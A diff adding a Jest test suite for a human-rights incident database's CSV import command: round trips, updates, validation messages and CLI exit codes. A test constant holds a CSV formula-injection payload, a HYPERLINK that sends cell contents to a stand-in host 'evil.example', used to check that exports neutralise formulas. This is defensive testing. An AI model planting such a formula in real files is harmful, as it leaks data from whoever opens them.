@@ -1,0 +1,435 @@
+import { execFile } from 'node:child_process';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { NestFastifyApplication } from '@nestjs/platform-fastify';
+import request from 'supertest';
+import { DataSource } from 'typeorm';
+import { AccountRole, Role } from '../src/access/role';
+import { Viewer } from '../src/access/viewer';
+import { AccountsService } from '../src/accounts/accounts.service';
+import { createApp } from '../src/app.factory';
+import { createDataSource } from '../src/database/data-source';
+import { neutraliseFormula } from '../src/exports/formula';
+import { RegionsService } from '../src/regions/regions.service';
+import { ImportRefusedError, importCsvFiles, ImportSummary, planImport, whereOf } from '../src/imports/importer';
+import { createTestDatabase, TestDatabase } from './support/test-database';
+import { startTestApp, TEST_OPERATOR, TestApp } from './support/test-app';
+
+/** The command line as `npm run vigil` runs it (npm test builds dist/ first). */
+const CLI = join(__dirname, '..', 'dist', 'src', 'cli', 'vigil.js');
+
+const EXPORTS = ['sources', 'incidents', 'responses', 'citations'] as const;
+type ExportName = (typeof EXPORTS)[number];
+type Files = Record<ExportName, string>;
+
+/** Text a spreadsheet would run as a formula, and text CSV must quote. */
+const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
+const AWKWARD = 'Commas, "double quotes", a \'single\' one,\nand a second line\r\nand a third; ünïcödé ✓';
+const NOTES = "'=already quoted by its author";
+/** Tables the four exports write, and what the import writes besides them. */
+const TABLES = ['source', 'incident', 'advocacy_response', 'response_incident', 'response_organizer', 'citation', 'revision', 'audit_event'];
+
+const OPERATOR = new Viewer(Role.ADMIN, null, 'command line (import test)');
+
+/** GETs an export's bytes as they are sent. */
+async function exportBytes(app: NestFastifyApplication, token: string, path: string): Promise<Buffer> {
+  const res = await request(app.getHttpServer())
+    .get(path)
+    .set('Authorization', `Bearer ${token}`)
+    .buffer(true)
+    .parse((response, done) => {
+      const chunks: Buffer[] = [];
+      response.on('data', (c: Buffer) => chunks.push(c));
+      response.on('end', () => done(null, Buffer.concat(chunks)));
+    });
+  if (res.status !== 200) throw new Error(`${path}: ${res.status} ${String(res.body)}`);
+  return res.body as Buffer;
+}
+
+/** All four CSV exports, deleted records included, as an admin sees them. */
+async function exportAll(app: NestFastifyApplication, token: string): Promise<Record<ExportName, Buffer>> {
+  const out = {} as Record<ExportName, Buffer>;
+  for (const name of EXPORTS) out[name] = await exportBytes(app, token, `/exports/${name}.csv?includeDeleted=true`);
+  return out;
+}
+
+/** Copies the rows of `table` (the records the CSV exports do not carry, such as situations and
+ * organizations, which the exported records refer to). */
+async function copyTable(from: DataSource, to: DataSource, table: string): Promise<void> {
+  const columns: string[] = (
+    await to.query(
+      `SELECT column_name FROM information_schema.columns WHERE table_schema = 'public' AND table_name = $1 AND is_generated = 'NEVER' ORDER BY ordinal_position`,
+      [table],
+    )
+  ).map((c: { column_name: string }) => c.column_name);
+  const [{ rows }] = await from.query(`SELECT coalesce(json_agg(t), '[]') AS rows FROM (SELECT ${columns.join(', ')} FROM ${table}) t`);
+  await to.query(`INSERT INTO ${table} (${columns.join(', ')}) SELECT ${columns.join(', ')} FROM json_populate_recordset(NULL::${table}, $1::json)`, [
+    JSON.stringify(rows),
+  ]);
+}
+
+/** A fingerprint of every row of the tables an import may write: equal fingerprints, nothing written. */
+async function fingerprint(db: DataSource): Promise<Record<string, string>> {
+  const out: Record<string, string> = {};
+  for (const table of TABLES) {
+    // The audit log also holds the exports and account changes made while testing: the import's own entries only.
+    const where = table === 'audit_event' ? ` WHERE operation = 'cli import'` : '';
+    const [row] = await db.query(`SELECT count(*) || ':' || coalesce(md5(string_agg(t::text, '|' ORDER BY t::text)), '') AS f FROM ${table} t${where}`);
+    out[table] = row.f;
+  }
+  return out;
+}
+
+describe('npm run vigil -- import', () => {
+  let source: TestApp;
+  let dir: string;
+  let files: Files;
+  let exported: Record<ExportName, Buffer>;
+  let target: TestDatabase;
+  let db: DataSource;
+  let injectedId: string;
+  let deletedId: string;
+
+  const write = async (name: string, text: string | Buffer) => {
+    const path = join(dir, name);
+    await writeFile(path, text);
+    return path;
+  };
+  const importing = (paths: string[]) => importCsvFiles(db, paths, { viewer: OPERATOR });
+  const refusal = async (paths: string[]): Promise<string[]> => {
+    const error = await importing(paths).then(
+      () => null,
+      (e: unknown) => e,
+    );
+    if (!(error instanceof ImportRefusedError)) throw new Error(`expected the import to be refused, got ${String(error)}`);
+    return error.listed.map((p) => `${whereOf(p)}: ${p.message}`.split(`${dir}/`).join(''));
+  };
+
+  beforeAll(async () => {
+    source = await startTestApp();
+    const gql = async (query: string, input: Record<string, unknown>) => {
+      const { body } = await source.gql<any>(query, { input }, Role.ADMIN);
+      if (body.errors) throw new Error(JSON.stringify(body.errors));
+      return Object.values(body.data!)[0] as { id: string; version: number };
+    };
+    // Beside the demo data, through the API: cells a spreadsheet would run, every protected field,
+    // a quoted empty text, a confidential record, a deleted one, a response with a new organizer.
+    const injected = await gql('mutation($input: CreateIncidentInput!) { createIncident(input: $input) { id version } }', {
+      kind: 'OTHER',
+      headline: INJECTION,
+      description: AWKWARD,
+      date: { edtf: '2020-02~', asReported: '-ish February' },
+      regionCode: 'UA',
+      locality: '+380 city',
+      latitude: 43.317123,
+      longitude: 45.694321,
+      locationPrecision: 'EXACT',
+      victims: { atLeast: 3, basis: 'ESTIMATED', asReported: '-3 or more' },
+      perpetratorDescription: '@someone',
+      internalNotes: NOTES,
+      confidentiality: 'CONFIDENTIAL',
+      citations: [{ source: { kind: 'TESTIMONY', publisher: '-Anonymous', title: '+1 testimony', published: { edtf: '2020-02-03' } }, claim: '=claim', excerpt: '' }],
+    });
+    injectedId = injected.id;
+    const deleted = await gql('mutation($input: CreateIncidentInput!) { createIncident(input: $input) { id version } }', {
+      kind: 'OTHER',
+      headline: 'Recorded in error',
+      date: { start: '2019', precision: 'YEAR' },
+      regionCode: 'GE',
+    });
+    deletedId = deleted.id;
+    await gql('mutation($input: RecordVersionInput!) { deleteRecord(input: $input) { id version } }', { type: 'INCIDENT', id: deleted.id, version: deleted.version });
+    const [organization] = await source.dataSource.query(`SELECT id FROM organization ORDER BY name LIMIT 1`);
+    await gql('mutation($input: CreateAdvocacyResponseInput!) { createAdvocacyResponse(input: $input) { id version } }', {
+      kind: 'STATEMENT',
+      title: '@Statement on the February incident',
+      date: { start: '2020-03', precision: 'MONTH' },
+      incidentIds: [injected.id],
+      organizers: [{ organizationId: organization.id, role: 'PARTNER' }],
+    });
+
+    exported = await exportAll(source.app, await source.tokenFor(Role.ADMIN));
+    dir = await mkdtemp(join(tmpdir(), 'vigil-import-'));
+    files = {} as Files;
+    for (const name of EXPORTS) files[name] = await write(`${name}.csv`, exported[name]);
+
+    target = await createTestDatabase({ demoData: false });
+    db = createDataSource(target.url);
+    await db.initialize();
+    for (const table of ['organization', 'situation']) await copyTable(source.dataSource, db, table);
+  });
+
+  afterAll(async () => {
+    await db?.destroy();
+    await target?.drop();
+    await source?.close();
+    if (dir) await rm(dir, { recursive: true, force: true });
+  });
+
+  describe('round trip', () => {
+    let first: ImportSummary;
+
+    it('imports the four exports into an empty database in one go, whatever order they are named in', async () => {
+      first = await importing([files.citations, files.responses, files.incidents, files.sources]);
+      expect(first.files.map((f) => f.kind)).toEqual(['sources', 'incidents', 'responses', 'citations']);
+      for (const f of first.files) {
+        const rows = exported[f.kind].toString('utf8').split('\n').length; // an upper bound: cells span lines
+        expect(f).toMatchObject({ created: f.rows, updated: 0, unchanged: 0 });
+        expect(f.rows).toBeGreaterThan(0);
+        expect(f.rows).toBeLessThan(rows);
+      }
+      const [{ incidents }] = await db.query(`SELECT count(*)::int AS incidents FROM incident`);
+      expect(incidents).toBe(first.files.find((f) => f.kind === 'incidents')!.rows);
+    });
+
+    it('exports the same bytes again from the imported database', async () => {
+      const app = await createApp({ databaseUrl: target.url, logLevel: 'silent', queryCache: false, security: { rateLimitPerAddress: 0, rateLimitPerToken: 0, authFailureLimit: 0 } });
+      try {
+        const accounts = app.get(AccountsService);
+        const account = await accounts.createAccount(TEST_OPERATOR, { email: 'admin@import.test', role: AccountRole.ADMIN }, 'test setup');
+        const { token } = await accounts.createToken(TEST_OPERATOR, { accountId: account.id, name: 'test' }, 'test setup');
+        const again = await exportAll(app, token);
+        for (const name of EXPORTS) {
+          // As text first, for a readable difference; then byte for byte.
+          expect({ name, text: again[name].toString('utf8') }).toEqual({ name, text: exported[name].toString('utf8') });
+          expect(again[name].equals(exported[name])).toBe(true);
+        }
+      } finally {
+        await app.close();
+      }
+    });
+
+    it('brings formula-neutralised cells back as they were stored', async () => {
+      expect(exported.incidents.toString('utf8')).toContain(`"${neutraliseFormula(INJECTION).replace(/"/g, '""')}"`);
+      expect(exported.incidents.toString('utf8')).toContain(`'+380 city`);
+      const [row] = await db.query(
+        `SELECT headline, description, locality, perpetrator_description, internal_notes, victims_as_reported, date_as_reported, latitude, longitude, confidentiality
+           FROM incident WHERE id = $1`,
+        [injectedId],
+      );
+      expect(row).toEqual({
+        headline: INJECTION,
+        description: AWKWARD,
+        locality: '+380 city',
+        perpetrator_description: '@someone',
+        internal_notes: NOTES,
+        victims_as_reported: '-3 or more',
+        date_as_reported: '-ish February',
+        latitude: 43.317123,
+        longitude: 45.694321,
+        confidentiality: 'CONFIDENTIAL',
+      });
+      const [citation] = await db.query(`SELECT claim, excerpt FROM citation WHERE incident_id = $1`, [injectedId]);
+      expect(citation).toEqual({ claim: '=claim', excerpt: '' });
+      const [{ deleted_at }] = await db.query(`SELECT deleted_at FROM incident WHERE id = $1`, [deletedId]);
+      expect(deleted_at).toBeInstanceOf(Date);
+    });
+
+    it('writes every record through the editing service: a revision and an audit entry each, as the command line', async () => {
+      const [revisions] = await db.query(
+        `SELECT count(*)::int AS n, count(DISTINCT subject_id)::int AS subjects, min(action::text) AS action, min(actor) AS actor, min(reason) AS reason FROM revision WHERE subject_type = 'INCIDENT'`,
+      );
+      const incidents = first.files.find((f) => f.kind === 'incidents')!.rows;
+      expect(revisions).toEqual({ n: incidents, subjects: incidents, action: 'CREATE', actor: 'command line (import test)', reason: 'import of incidents.csv' });
+      const audit = await db.query(`SELECT subject_type, action, count(*)::int AS n FROM audit_event WHERE operation = 'cli import' GROUP BY 1, 2 ORDER BY 1, 2`);
+      const created = await db.query(`SELECT subject_type::text, count(*)::int AS n FROM revision GROUP BY 1`);
+      const byType = Object.fromEntries(created.map((r: { subject_type: string; n: number }) => [r.subject_type, r.n]));
+      expect(audit.map((a: { action: string }) => a.action)).toEqual(audit.map(() => 'CREATE'));
+      expect(audit.reduce((n: number, a: { n: number }) => n + a.n, 0)).toBe(Object.values(byType).reduce((n, v) => n + (v as number), 0));
+      // The links of responses were created too (incident_ids, organizer_names).
+      expect(byType.RESPONSE_INCIDENT).toBeGreaterThan(0);
+      expect(byType.RESPONSE_ORGANIZER).toBeGreaterThan(0);
+    });
+
+    it('changes nothing when the same files are imported again', async () => {
+      const before = await fingerprint(db);
+      const second = await importing([files.sources, files.incidents, files.responses, files.citations]);
+      expect(second.files.map((f) => [f.kind, f.created, f.updated, f.unchanged])).toEqual(first.files.map((f) => [f.kind, 0, 0, f.rows]));
+      expect(await fingerprint(db)).toEqual(before);
+    });
+
+    it('accepts a file with a byte order mark (Excel)', async () => {
+      const withBom = await exportBytes(source.app, await source.tokenFor(Role.ADMIN), '/exports/incidents.csv?includeDeleted=true&bom=true');
+      expect(withBom.subarray(0, 3).toString('hex')).toBe('efbbbf');
+      const summary = await importing([await write('incidents-bom.csv', withBom)]);
+      expect(summary.files[0]).toMatchObject({ kind: 'incidents', created: 0, updated: 0, unchanged: first.files.find((f) => f.kind === 'incidents')!.rows });
+    });
+  });
+
+  describe('updates', () => {
+    it('updates a row that differs at its current version, with a revision; leaves the rest alone', async () => {
+      const [{ version, updated_at }] = await db.query(`SELECT version, updated_at FROM incident WHERE id = $1`, [injectedId]);
+      const text = exported.incidents.toString('utf8').replace("'+380 city", 'Kharkiv');
+      const summary = await importing([await write('incidents-changed.csv', text)]);
+      expect(summary.files[0]).toMatchObject({ updated: 1, created: 0, unchanged: summary.files[0].rows - 1 });
+      const [after] = await db.query(`SELECT version, updated_at, locality FROM incident WHERE id = $1`, [injectedId]);
+      expect(after.locality).toBe('Kharkiv');
+      expect(after.version).toBe(version + 1);
+      expect(after.updated_at.getTime()).toBeGreaterThan(updated_at.getTime());
+      const [revision] = await db.query(
+        `SELECT action::text, changed_fields, actor FROM revision WHERE subject_id = $1 ORDER BY version DESC LIMIT 1`,
+        [injectedId],
+      );
+      expect(revision).toEqual({ action: 'UPDATE', changed_fields: ['locality'], actor: 'command line (import test)' });
+      // And back, so the other tests see the exported state.
+      expect((await importing([files.incidents])).files[0]).toMatchObject({ updated: 1 });
+    });
+
+    it('restores a deleted record, or deletes one, as the deleted_at column says', async () => {
+      const text = exported.incidents.toString('utf8');
+      const header = text.slice(0, text.indexOf('\n'));
+      const column = header.split(',').indexOf('deleted_at');
+      const line = text.split('\n').find((l) => l.startsWith(deletedId))!;
+      const cells = line.split(',');
+      expect(cells[column]).not.toBe('');
+      cells[column] = '';
+      const summary = await importing([await write('incidents-restore.csv', `${header}\n${cells.join(',')}\n`)]);
+      expect(summary.files[0]).toMatchObject({ rows: 1, updated: 1 });
+      const [{ deleted_at }] = await db.query(`SELECT deleted_at FROM incident WHERE id = $1`, [deletedId]);
+      expect(deleted_at).toBeNull();
+      expect((await importing([files.incidents])).files[0]).toMatchObject({ updated: 1 });
+      const [again] = await db.query(`SELECT deleted_at FROM incident WHERE id = $1`, [deletedId]);
+      expect(again.deleted_at).toBeInstanceOf(Date);
+    });
+  });
+
+  describe('problems', () => {
+    const incidentHeader = () => exported.incidents.toString('utf8').split('\n')[0].split(',');
+    /** An incident row in the export's columns, from named cells. */
+    const incidentRow = (cells: Record<string, string>) => incidentHeader().map((h) => cells[h] ?? '');
+    const csvLine = (cells: string[]) => cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
+    const good = (id: string) => ({ id, kind: 'DETENTION', headline: 'Fine', date_start: '2017-04-01', date_precision: 'MONTH', region_code: 'RU-CE' });
+
+    it('reports every bad row and column, validated by the API rules, and writes nothing', async () => {
+      const before = await fingerprint(db);
+      const incidents = await write(
+        'bad-incidents.csv',
+        [
+          incidentHeader().join(','),
+          csvLine(incidentRow(good('00000000-0000-4000-8000-000000000001'))),
+          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000002'), headline: '', date_start: '2017-04-02' })),
+          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000003'), kind: 'RAID', victims_at_least: '5', victims_best: '2', latitude: '91.123456', longitude: '45.1' })),
+          csvLine(incidentRow({ ...good('not-an-id'), latitude: '43.2', region_code: 'XX', created_at: 'yesterday' })),
+          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000001'), description: 'The same id again' })),
+          csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000004'), situation_id: '00000000-0000-4000-8000-0000000000ff', date_open_end: 'perhaps' })),
+          '00000000-0000-4000-8000-000000000005,DETENTION,Too few cells',
+        ].join('\n'),
+      );
+      const citationHeader = exported.citations.toString('utf8').split('\n')[0];
+      const sourceId = exported.sources.toString('utf8').split('\n')[1].split(',')[0];
+      const citations = await write(
+        'bad-citations.csv',
+        `${citationHeader}\n` +
+          `00000000-0000-4000-8000-0000000000c1,${sourceId},00000000-0000-4000-8000-000000000001,,,claim,excerpt,,PUBLIC,,,\n` +
+          `00000000-0000-4000-8000-0000000000c2,${sourceId},00000000-0000-4000-8000-0000000000aa,,,claim,excerpt,,PUBLIC,,,\n` +
+          `00000000-0000-4000-8000-0000000000c3,${sourceId},,,,claim,excerpt,,PUBLIC,,,\n`,
+      );
+      expect(await refusal([citations, incidents])).toEqual([
+        'bad-incidents.csv:3 headline: is required',
+        'bad-incidents.csv:3 date_start: does not match precision MONTH: write 2017-04',
+        expect.stringMatching(/^bad-incidents\.csv:4 kind: must be one of the following values: DETENTION, /),
+        'bad-incidents.csv:4 latitude: must not be greater than 90',
+        'bad-incidents.csv:4 victims_best: is below victims_at_least (5)',
+        'bad-incidents.csv:5 id: must be an id (UUID)',
+        'bad-incidents.csv:5 region_code: must be a known ISO 3166 code such as RU or RU-CE (upper case)',
+        'bad-incidents.csv:5 latitude: needs longitude too',
+        'bad-incidents.csv:5 created_at: must be a time in ISO 8601 with its zone, as exports write it (2024-05-01T12:00:00.000Z)',
+        'bad-incidents.csv:6 id: is given twice: also on bad-incidents.csv:2',
+        'bad-incidents.csv:7 date_open_end: must be a boolean value',
+        'bad-incidents.csv:7 situation_id: no Situation with this id (or it is deleted)',
+        `bad-incidents.csv:8: has 3 cells where the header has ${incidentHeader().length}`,
+        // The citation of the good incident on line 2 is fine: that row was written earlier in the same transaction.
+        'bad-citations.csv:3 incident_id: no Incident with this id (or it is deleted)',
+        'bad-citations.csv:4 incident_id: give exactly one of incident_id, situation_id, response_id',
+      ]);
+      expect(await fingerprint(db)).toEqual(before);
+    });
+
+    it('names a row the database refuses after validation, and writes nothing', async () => {
+      // A region the API's list knows but the table lacks: only the database's foreign key sees it.
+      const [{ code }] = await db.query(
+        `SELECT code FROM region r WHERE code LIKE 'AQ%' AND NOT EXISTS (SELECT 1 FROM region c WHERE c.parent_code = r.code) ORDER BY code LIMIT 1`,
+      );
+      await db.query(`DELETE FROM region WHERE code = $1`, [code]);
+      try {
+        const before = await fingerprint(db);
+        const path = await write(
+          'refused.csv',
+          [
+            incidentHeader().join(','),
+            csvLine(incidentRow(good('00000000-0000-4000-8000-00000000000a'))),
+            csvLine(incidentRow({ ...good('00000000-0000-4000-8000-00000000000b'), region_code: code })),
+            csvLine(incidentRow({ ...good('00000000-0000-4000-8000-00000000000c'), headline: '' })),
+          ].join('\n'),
+        );
+        expect(await refusal([path])).toEqual(['refused.csv:3: refers to a record that does not exist', 'refused.csv:4 headline: is required']);
+        expect(await fingerprint(db)).toEqual(before);
+      } finally {
+        await RegionsService.sync(db);
+      }
+    });
+
+    it('never quotes a cell in a message', async () => {
+      const path = await write('secret.csv', [incidentHeader().join(','), csvLine(incidentRow({ ...good('00000000-0000-4000-8000-000000000006'), latitude: '91.5551234', longitude: 'x-7c1f', internal_notes: 'n'.repeat(20_001) }))].join('\n'));
+      const problems = await refusal([path]);
+      expect(problems).toEqual([
+        'secret.csv:2 latitude: must not be greater than 90',
+        'secret.csv:2 longitude: must be a number',
+        'secret.csv:2 internal_notes: must be shorter than or equal to 20000 characters',
+      ]);
+      expect(problems.join('\n')).not.toMatch(/91\.555|7c1f|nnnn/);
+    });
+
+    it('refuses a file whose header is not an export\'s, naming the columns, before opening the database', async () => {
+      const header = incidentHeader();
+      const unknown = await write('unknown.csv', `${header.map((h) => (h === 'headline' ? 'headlin' : h)).join(',')}\n`);
+      const missing = await write('missing.csv', `${header.filter((h) => h !== 'region_code').join(',')}\n`);
+      const other = await write('people.csv', 'name,email\nAna,ana@example.org\n');
+      const empty = await write('empty.csv', '');
+      const error = await planImport([unknown, missing, other, empty, join(dir, 'absent.csv')]).catch((e: unknown) => e);
+      expect(error).toBeInstanceOf(ImportRefusedError);
+      expect((error as ImportRefusedError).listed.map((p) => `${whereOf(p).replace(dir + '/', '')}: ${p.message}`)).toEqual([
+        'unknown.csv:1 headlin: is not a column of incidents.csv',
+        'unknown.csv:1 headline: is missing: incidents.csv needs it',
+        'missing.csv:1 region_code: is missing: incidents.csv needs it',
+        'people.csv:1: is not an export of sources, incidents, responses or citations: its header is not one of theirs (docs/import.md)',
+        'empty.csv: is empty: a file starts with the header of its export',
+        'absent.csv: cannot be read (ENOENT)',
+      ]);
+    });
+
+    it('reports a file that is not valid CSV with the line where reading stopped', async () => {
+      const header = incidentHeader().join(',');
+      const path = await write('broken.csv', `${header}\n${csvLine(incidentRow(good('00000000-0000-4000-8000-000000000007')))}\n00000000-0000-4000-8000-000000000008,"DETENTION,unclosed\n`);
+      expect(await refusal([path])).toEqual(['broken.csv:3: not valid CSV (CSV_QUOTE_NOT_CLOSED): the rest of the file was not read']);
+    });
+  });
+
+  describe('command line', () => {
+    async function vigil(...args: string[]) {
+      const env = { ...process.env, DATABASE_URL: target.url, CI: 'true' };
+      try {
+        const { stdout, stderr } = await promisify(execFile)(process.execPath, [CLI, ...args], { env, cwd: dir });
+        return { code: 0, stdout, stderr };
+      } catch (e) {
+        const err = e as { code: number; stdout: string; stderr: string };
+        return { code: err.code, stdout: err.stdout, stderr: err.stderr };
+      }
+    }
+
+    it('prints every problem and exits with code 2, or the counts and 0', async () => {
+      const header = exported.incidents.toString('utf8').split('\n')[0];
+      const cells = header.split(',').map((h) => ({ id: '00000000-0000-4000-8000-000000000009', kind: 'DETENTION', date_start: '2017', date_precision: 'YEAR', region_code: 'RU' })[h] ?? '');
+      await write('cli-bad.csv', `${header}\n${cells.join(',')}\n`);
+      const bad = await vigil('import', 'cli-bad.csv');
+      expect(bad).toMatchObject({ code: 2, stdout: '' });
+      expect(bad.stderr).toBe('error: cli-bad.csv:2 headline: is required\nerror: import: 1 problem: nothing was imported\n');
+
+      const good = await vigil('import', 'sources.csv', 'incidents.csv');
+      expect(good.code).toBe(0);
+      expect(good.stdout).toMatch(/^sources\.csv \(sources\): (\d+) rows: 0 created, 0 updated, \1 unchanged\nincidents\.csv \(incidents\): (\d+) rows: 0 created, 0 updated, \2 unchanged\nImported \d+ rows in [\d.]+ s \(\d+ rows\/s\): 0 created, 0 updated, \d+ unchanged\n$/);
+    });
+  });
+});
